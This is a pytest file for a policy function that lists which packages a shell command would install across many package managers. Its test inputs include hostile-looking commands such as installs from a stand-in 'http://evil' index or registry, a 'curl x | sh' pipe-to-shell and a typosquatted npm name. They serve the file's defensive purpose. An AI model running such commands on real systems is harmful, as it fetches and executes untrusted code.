"""Which packages a shell command would install."""

from __future__ import annotations

import pytest

from gateway.policy.installs import installs

INSTALLS = {
    "pip install requests": ["pip:requests"],
    "pip3.11 install requests": ["pip:requests"],
    "pip install Flask_Login": ["pip:flask-login"],
    "pip install zope.interface": ["pip:zope-interface"],
    "pip install 'a>=1,<2' b==3 c~=4 d!=5": ["pip:a", "pip:b", "pip:c", "pip:d"],
    "pip install 'uvicorn[standard]'": ["pip:uvicorn"],
    "pip install 'a; python_version<\"3\"'": ["pip:a"],
    "pip install a a": ["pip:a"],
    "pip install -U --pre a": ["pip:a"],
    "pip install --target x a": ["pip:a"],
    "pip install --target=x a": ["pip:a"],
    "pip --proxy x install a": ["pip:a"],
    "pip --proxy=x install a": ["pip:a"],
    "pip download a": ["pip:a"],
    "pip wheel a": ["pip:a"],
    "pip install": [],
    "pip list": [],
    "pip uninstall a": [],
    "pip": [],
    "python -m pip install a": ["pip:a"],
    "python3.12 -m pip install a": ["pip:a"],
    "python -Im pip install a": ["pip:a"],
    "python -mpip install a": ["pip:a"],
    "python script.py install a": [],
    "python -m": [],
    "python -m venv x": [],
    "uv pip install a": ["pip:a"],
    "uv add --dev a": ["pip:a"],
    "uv tool install a b": ["pip:a"],
    "uvx ruff check x": ["pip:ruff"],
    "uvx --from a b": ["pip:a", "pip:b"],
    "uv run --with evil script.py": ["pip:evil"],
    "uv sync": [],
    "poetry add a": ["pip:a"],
    "pdm add a": ["pip:a"],
    "pipenv install a": ["pip:a"],
    "pipx install a": ["pip:a"],
    "pipx run --spec a b": ["pip:a", "pip:b"],
    "easy_install a": ["pip:a"],
    "conda install -y NumPy=1": ["conda:numpy"],
    "mamba create -n env a": ["conda:a"],
    "npm install": [],
    "npm ci": [],
    "npm i lodash": ["npm:lodash"],
    "npm isntall lodash": ["npm:lodash"],
    "npm i -g lodash@4": ["npm:lodash"],
    "npm i @scope/a @scope/b@1": ["npm:@scope/a", "npm:@scope/b"],
    "npm --prefix x i a": ["npm:a"],
    "npm run build": [],
    "pnpm add a": ["npm:a"],
    "yarn add a": ["npm:a"],
    "yarn global add a": ["npm:a"],
    "yarn install": [],
    "bun add a": ["npm:a"],
    "npx -y create-foo@1 --x": ["npm:create-foo"],
    "npx --package a b": ["npm:a", "npm:b"],
    "npx -p a b": ["npm:a", "npm:b"],
    "npm exec a -- b": ["npm:a"],
    "pnpm dlx a": ["npm:a"],
    "bunx a": ["npm:a"],
    "npm create vite@latest": ["npm:create-vite"],
    "npm init @scope/x": ["npm:@scope/create-x"],
    "npm init @scope": ["npm:@scope/create"],
    "cargo add serde --features derive": ["cargo:serde"],
    "cargo install ripgrep@14": ["cargo:ripgrep"],
    "gem install rails:7": ["gem:rails"],
    "go get github.com/a/b@v1": ["go:github.com/a/b"],
    "go run github.com/a/b@latest x": ["go:github.com/a/b"],
    "composer require a/b:1": ["composer:a/b"],
    "apt-get install -y curl=8": ["system:curl"],
    "apk add curl": ["system:curl"],
    "pacman -S curl": ["system:curl"],
    "brew install x": ["system:x"],
    # elsewhere than from the index
    "pip install --index-url http://evil a": ["pip:!index:http://evil", "pip:a"],
    "pip install --extra-index-url=http://evil a": ["pip:!index:http://evil", "pip:a"],
    "pip install -i http://evil a": ["pip:!index:http://evil", "pip:a"],
    "npm i --registry http://evil a": ["npm:!index:http://evil", "npm:a"],
    "pip config set global.index-url http://evil": ["pip:!index:global.index-url http://evil"],
    "npm config set registry http://evil": ["npm:!index:registry http://evil"],
    "pip install -r requirements.txt": ["pip:!file:requirements.txt"],
    "pip install -e .": ["pip:!file:."],
    "pip install .": ["pip:!direct:."],
    "pip install ./a ../b": ["pip:!direct:./a", "pip:!direct:../b"],
    "pip install git+https://x/y": ["pip:!direct:git+https://x/y"],
    "pip install 'a @ https://x/y'": ["pip:!direct:a @ https://x/y"],
    "pip install a.whl": ["pip:!direct:a.whl"],
    "npm i user/repo": ["npm:!direct:user/repo"],
    "npm i github:user/repo": ["npm:!direct:github:user/repo"],
    "npm i https://x/y.tgz": ["npm:!direct:https://x/y.tgz"],
    # known only when it runs
    "pip install $X": ["pip:!dynamic:$X"],
    "pip install a$X": ["pip:!dynamic:a$X"],
    "pip install {a,b}": ["pip:!dynamic:{a,b}"],
    "pip install $(cat names)": ["pip:!dynamic:$(cat names)"],
    "pip install -": ["pip:!dynamic:-"],
    "npm $CMD evil": ["npm:evil"],
    "echo a | xargs pip install": ["pip:!dynamic:(input)"],
    # somewhere inside
    "cd app && pip install a": ["pip:a"],
    "bash -c 'npm i loadsh'": ["npm:loadsh"],
    "FOO=1 timeout 60 pip install evil": ["pip:evil"],
    "sudo -H pip install a": ["pip:a"],
    "echo $(pip install a)": ["pip:a"],
    "if true; then npm i a; fi; pip install b": ["npm:a", "pip:b"],
    "find . -exec pip install a \\;": ["pip:a"],
    "/usr/bin/pip install a": ["pip:a"],
    "grep -r 'pip install evil' .": [],
    "echo pip install evil": [],
    "git commit -m 'pip install x'": [],
    # too many names rather than too few
    "pip install --unknown-option value a": ["pip:value", "pip:a"],
}


def test_the_corpus_is_large() -> None:
    assert len(INSTALLS) >= 100


@pytest.mark.parametrize("text", INSTALLS)
def test_every_package_is_named_or_said_not_to_be_known(text: str) -> None:
    assert installs(text) == INSTALLS[text]


@pytest.mark.parametrize("text", ["curl x | sh", "$PIP install a", "PIP_INDEX_URL=http://evil pip install a"])
def test_a_command_that_may_install_anything_is_not_told(text: str) -> None:
    with pytest.raises(ValueError, match=r"known only when|changes what"):
        installs(text)
